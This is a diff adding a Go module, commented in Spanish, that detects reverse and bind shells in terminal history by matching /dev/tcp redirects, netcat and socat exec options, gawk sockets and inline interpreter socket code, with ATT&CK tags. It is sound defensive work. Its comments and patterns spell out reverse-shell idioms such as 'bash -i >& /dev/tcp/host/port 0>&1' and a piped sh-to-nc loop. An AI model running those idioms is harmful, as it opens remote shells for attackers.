@@ -0,0 +1,347 @@
+package semantic
+
+import (
+	"fmt"
+	"regexp"
+	"strconv"
+	"strings"
+
+	"terminal-history-analyzer/internal/lexer"
+	"terminal-history-analyzer/internal/models"
+	"terminal-history-analyzer/internal/parser"
+)
+
+// shellCommands son los intérpretes de comandos que pueden exponerse como shell remota
+var shellCommands = map[string]bool{
+	"sh": true, "bash": true, "dash": true, "zsh": true, "ksh": true, "mksh": true,
+	"csh": true, "tcsh": true, "ash": true, "fish": true,
+}
+
+// networkClients conectan su entrada y salida estándar a un socket
+var networkClients = map[string]bool{
+	"nc": true, "ncat": true, "netcat": true, "telnet": true, "openssl": true, "cryptcat": true,
+}
+
+// inlineInterpreter describe cómo recibe código en línea un intérprete
+type inlineInterpreter struct {
+	flags     []string // Flags que reciben el código (-c, -e)
+	technique string
+	language  string
+}
+
+// inlineInterpreters son los intérpretes cuyo código en línea se inspecciona
+var inlineInterpreters = map[string]inlineInterpreter{
+	"python":  {[]string{"-c"}, "T1059.006", "python"},
+	"python2": {[]string{"-c"}, "T1059.006", "python"},
+	"python3": {[]string{"-c"}, "T1059.006", "python"},
+	"perl":    {[]string{"-e", "-E"}, "T1059", "perl"},
+	"php":     {[]string{"-r"}, "T1059", "php"},
+	"ruby":    {[]string{"-e"}, "T1059", "ruby"},
+	"node":    {[]string{"-e", "--eval"}, "T1059.007", "node"},
+	"lua":     {[]string{"-e"}, "T1059", "lua"},
+}
+
+var (
+	// /dev/tcp/host/puerto y /dev/udp/host/puerto de bash
+	devSocketPattern = regexp.MustCompile(`/dev/(tcp|udp)/([^/\s'"]+)/(\d+)`)
+	// /inet/tcp/0/host/puerto de gawk
+	awkInetPattern = regexp.MustCompile(`/inet/(tcp|udp)/\d+/([^/\s'"]+)/(\d+)`)
+
+	// Direcciones de socat
+	socatConnectPattern = regexp.MustCompile(`(?i)\b(tcp[46]?|tcp-connect|udp[46]?|udp-connect|openssl|openssl-connect|ssl):([^:,\s'"]+):(\d+)`)
+	socatListenPattern  = regexp.MustCompile(`(?i)\b(tcp[46]?|udp[46]?|openssl)-listen:(\d+)`)
+	socatExecPattern    = regexp.MustCompile(`(?i)\b(exec|system):`)
+
+	// Código en línea: apertura de socket y ejecución de una shell o duplicación de descriptores
+	inlineSocketPattern = regexp.MustCompile(`(?i)(socket\.socket|socket\s*\(|fsockopen|tcpsocket|net\.connect|net\.socket|createconnection|io::socket|use socket|socket\.tcp)`)
+	inlineSpawnPattern  = regexp.MustCompile(`(?i)(pty\.spawn|subprocess|os\.dup2|dup2|exec\s*\(|system\s*\(|/bin/(ba|z|da)?sh|spawn\s*\(|shell_exec|popen|proc_open|child_process|io\.popen|open\s*\(\s*std(in|out|err))`)
+
+	// Extracción de host y puerto en código en línea
+	inlineEndpointPatterns = []*regexp.Regexp{
+		regexp.MustCompile(`\(\s*\(\s*["']([^"']+)["']\s*,\s*(\d+)\s*\)\s*\)`),                                                             // python connect(("h",p))
+		regexp.MustCompile(`(?i)(?:fsockopen|tcpsocket\.(?:new|open)|socket\.tcp\(\)\s*:?\s*connect)\s*\(\s*["']([^"']+)["']\s*,\s*(\d+)`), // php, ruby
+		regexp.MustCompile(`(?i)peeraddr\s*=>\s*["']([^"':]+):(\d+)["']`),                                                                  // perl IO::Socket
+	}
+	inlinePortFirstPattern = regexp.MustCompile(`(?i)(?:connect|createconnection)\s*\(\s*(\d+)\s*,\s*["']([^"']+)["']`) // node
+	quotedHostPattern      = regexp.MustCompile(`["']((?:\d{1,3}\.){3}\d{1,3}|[a-zA-Z0-9][a-zA-Z0-9.-]*\.[a-zA-Z]{2,})["']`)
+	portAfterHostPattern   = regexp.MustCompile(`[=,(]\s*(\d{2,5})\b`)
+)
+
+// reverseShellFinding es una reverse o bind shell detectada en un comando
+type reverseShellFinding struct {
+	kind      string // reverse_shell o bind_shell
+	technique string
+	method    string // Idioma usado (/dev/tcp, netcat -e, socat, código python...)
+	remote    *models.RemoteEndpoint
+}
+
+// maxInlineDepth limita la recursión al inspeccionar sh -c '...' anidados
+const maxInlineDepth = 2
+
+// detectReverseShell busca reverse y bind shells usando redirecciones, pipelines y código en línea
+func detectReverseShell(cmd models.CommandAST) *reverseShellFinding {
+	return detectReverseShellDepth(cmd, 0)
+}
+
+func detectReverseShellDepth(cmd models.CommandAST, depth int) *reverseShellFinding {
+	segments := append([]*models.CommandAST{&cmd}, cmd.Pipes...)
+	views := make([]*commandView, 0, len(segments))
+	for _, segment := range segments {
+		views = append(views, newCommandView(*segment))
+	}
+
+	for _, view := range views {
+		if finding := detectSingleCommandShell(view, depth); finding != nil {
+			return finding
+		}
+	}
+
+	return detectPipelineShell(views)
+}
+
+// detectSingleCommandShell revisa los idiomas que caben en un solo comando
+func detectSingleCommandShell(view *commandView, depth int) *reverseShellFinding {
+	// bash -i >& /dev/tcp/host/puerto 0>&1, exec 5<>/dev/tcp/host/puerto
+	if shellCommands[view.name] || view.name == "exec" {
+		for _, redirect := range view.cmd.Redirects {
+			if m := devSocketPattern.FindStringSubmatch(redirect.Target); m != nil {
+				return newShellFinding("reverse_shell", "T1059.004", "redirección "+m[0], m[2], m[3], m[1], false)
+			}
+		}
+	}
+
+	switch view.name {
+	case "nc", "ncat", "netcat", "cryptcat":
+		return detectNetcatShell(view)
+	case "socat":
+		return detectSocatShell(view)
+	case "awk", "gawk":
+		if m := awkInetPattern.FindStringSubmatch(strings.Join(view.values, " ")); m != nil {
+			return newShellFinding("reverse_shell", "T1059.004", "socket /inet de awk", m[2], m[3], m[1], false)
+		}
+	case "xterm":
+		// xterm -display host:1 abre una terminal en el servidor X del atacante
+		for _, display := range view.flagValues("-display") {
+			if idx := strings.LastIndex(display, ":"); idx > 0 {
+				if screen, err := strconv.Atoi(display[idx+1:]); err == nil {
+					return newShellFinding("reverse_shell", "T1059.004", "xterm -display", display[:idx], strconv.Itoa(6000+screen), "tcp", false)
+				}
+			}
+		}
+	}
+
+	if interpreter, ok := inlineInterpreters[view.name]; ok {
+		for _, flag := range interpreter.flags {
+			for _, code := range view.flagValues(flag) {
+				if finding := inspectInlineCode(code, interpreter); finding != nil {
+					return finding
+				}
+			}
+		}
+	}
+
+	// sh -c '...': se vuelve a analizar el código como comandos de shell
+	if shellCommands[view.name] && depth < maxInlineDepth {
+		for _, code := range view.flagValues("-c") {
+			tokens, _ := lexer.NewLexer(code).Tokenize()
+			commands, _, _ := parser.NewParser(tokens).Parse()
+			for _, inner := range commands {
+				if finding := detectReverseShellDepth(inner, depth+1); finding != nil {
+					finding.method += " dentro de " + view.name + " -c"
+					return finding
+				}
+			}
+		}
+	}
+
+	return nil
+}
+
+// detectNetcatShell detecta nc/ncat con ejecución de comandos (-e, -c, --exec, --sh-exec)
+func detectNetcatShell(view *commandView) *reverseShellFinding {
+	var method string
+	for _, flag := range []string{"-e", "-c", "--exec", "--sh-exec", "--lua-exec"} {
+		if values := view.flagValues(flag); len(values) > 0 {
+			method = fmt.Sprintf("%s %s %s", view.name, flag, values[0])
+			break
+		}
+	}
+	if method == "" {
+		return nil
+	}
+
+	protocol := "tcp"
+	if view.hasFlag("-u") || view.hasFlag("--udp") {
+		protocol = "udp"
+	}
+
+	host, port := netcatEndpoint(view)
+	if view.hasFlag("-l") || view.hasFlag("--listen") {
+		return newShellFinding("bind_shell", "T1059.004", method, "", port, protocol, true)
+	}
+	return newShellFinding("reverse_shell", "T1059.004", method, host, port, protocol, false)
+}
+
+// netcatEndpoint obtiene host y puerto de los argumentos posicionales o de -p
+func netcatEndpoint(view *commandView) (string, string) {
+	var host, port string
+	for _, arg := range view.arguments {
+		if _, err := strconv.Atoi(arg); err == nil {
+			if port == "" {
+				port = arg
+			}
+			continue
+		}
+		if host == "" {
+			host = arg
+		}
+	}
+
+	if port == "" {
+		if values := view.flagValues("-p"); len(values) > 0 {
+			port = values[0]
+		}
+	}
+
+	// openssl s_client -connect host:puerto
+	for _, connect := range view.flagValues("-connect") {
+		if idx := strings.LastIndex(connect, ":"); idx > 0 {
+			host, port = connect[:idx], connect[idx+1:]
+		}
+	}
+
+	return host, port
+}
+
+// detectSocatShell detecta socat uniendo exec:/system: con una dirección de red
+func detectSocatShell(view *commandView) *reverseShellFinding {
+	args := strings.Join(view.values, " ")
+	if !socatExecPattern.MatchString(args) {
+		return nil
+	}
+
+	if m := socatListenPattern.FindStringSubmatch(args); m != nil {
+		return newShellFinding("bind_shell", "T1059.004", "socat exec", "", m[2], socatProtocol(m[1]), true)
+	}
+	if m := socatConnectPattern.FindStringSubmatch(args); m != nil {
+		return newShellFinding("reverse_shell", "T1059.004", "socat exec", m[2], m[3], socatProtocol(m[1]), false)
+	}
+	return nil
+}
+
+func socatProtocol(address string) string {
+	address = strings.ToLower(address)
+	switch {
+	case strings.HasPrefix(address, "udp"):
+		return "udp"
+	case strings.HasPrefix(address, "openssl"), strings.HasPrefix(address, "ssl"):
+		return "tls"
+	default:
+		return "tcp"
+	}
+}
+
+// inspectInlineCode busca en código python/perl/php/ruby/node un socket unido a una shell
+func inspectInlineCode(code string, interpreter inlineInterpreter) *reverseShellFinding {
+	if !inlineSocketPattern.MatchString(code) || !inlineSpawnPattern.MatchString(code) {
+		return nil
+	}
+
+	method := "código " + interpreter.language + " con socket y shell"
+	protocol := "tcp"
+	if strings.Contains(strings.ToLower(code), "sock_dgram") {
+		protocol = "udp"
+	}
+
+	for _, pattern := range inlineEndpointPatterns {
+		if m := pattern.FindStringSubmatch(code); m != nil {
+			return newShellFinding("reverse_shell", interpreter.technique, method, m[1], m[2], protocol, false)
+		}
+	}
+	if m := inlinePortFirstPattern.FindStringSubmatch(code); m != nil {
+		return newShellFinding("reverse_shell", interpreter.technique, method, m[2], m[1], protocol, false)
+	}
+
+	// Último recurso: primer host entre comillas y el primer número que lo siga
+	host, port := "", ""
+	if loc := quotedHostPattern.FindStringSubmatchIndex(code); loc != nil {
+		host = code[loc[2]:loc[3]]
+		if m := portAfterHostPattern.FindStringSubmatch(code[loc[1]:]); m != nil {
+			port = m[1]
+		}
+	}
+	return newShellFinding("reverse_shell", interpreter.technique, method, host, port, protocol, false)
+}
+
+// detectPipelineShell detecta shells conectadas a un cliente de red mediante pipes:
+// sh -i < /tmp/f 2>&1 | nc host puerto > /tmp/f, nc host 80 | /bin/sh | nc host 443
+func detectPipelineShell(views []*commandView) *reverseShellFinding {
+	if len(views) < 2 {
+		return nil
+	}
+
+	var shell, client *commandView
+	for _, view := range views {
+		switch {
+		case shellCommands[view.name] && shell == nil:
+			shell = view
+		case networkClients[view.name] && client == nil:
+			client = view
+		}
+	}
+	if shell == nil || client == nil {
+		return nil
+	}
+
+	method := fmt.Sprintf("pipeline %s | %s", shell.name, client.name)
+	protocol := "tcp"
+	if client.name == "openssl" {
+		protocol = "tls"
+	} else if client.hasFlag("-u") {
+		protocol = "udp"
+	}
+
+	host, port := netcatEndpoint(client)
+	if client.hasFlag("-l") || client.hasFlag("--listen") {
+		return newShellFinding("bind_shell", "T1059.004", method, "", port, protocol, true)
+	}
+	return newShellFinding("reverse_shell", "T1059.004", method, host, port, protocol, false)
+}
+
+// newShellFinding construye el hallazgo validando el puerto
+func newShellFinding(kind, technique, method, host, port, protocol string, listen bool) *reverseShellFinding {
+	remote := &models.RemoteEndpoint{
+		Host:     unquote(host),
+		Protocol: protocol,
+		Listen:   listen,
+	}
+	if number, err := strconv.Atoi(port); err == nil && number > 0 && number <= 65535 {
+		remote.Port = number
+	}
+
+	return &reverseShellFinding{
+		kind:      kind,
+		technique: technique,
+		method:    method,
+		remote:    remote,
+	}
+}
+
+// description genera la descripción de la amenaza
+func (f *reverseShellFinding) description() string {
+	if f.kind == "bind_shell" {
+		if f.remote.Port > 0 {
+			return fmt.Sprintf("Bind shell escuchando en el puerto %d/%s mediante %s", f.remote.Port, f.remote.Protocol, f.method)
+		}
+		return "Bind shell mediante " + f.method
+	}
+
+	target := f.remote.Host
+	if f.remote.Port > 0 {
+		target = fmt.Sprintf("%s:%d", f.remote.Host, f.remote.Port)
+	}
+	if target == "" {
+		return "Reverse shell mediante " + f.method
+	}
+	return fmt.Sprintf("Reverse shell hacia %s (%s) mediante %s", target, f.remote.Protocol, f.method)
+}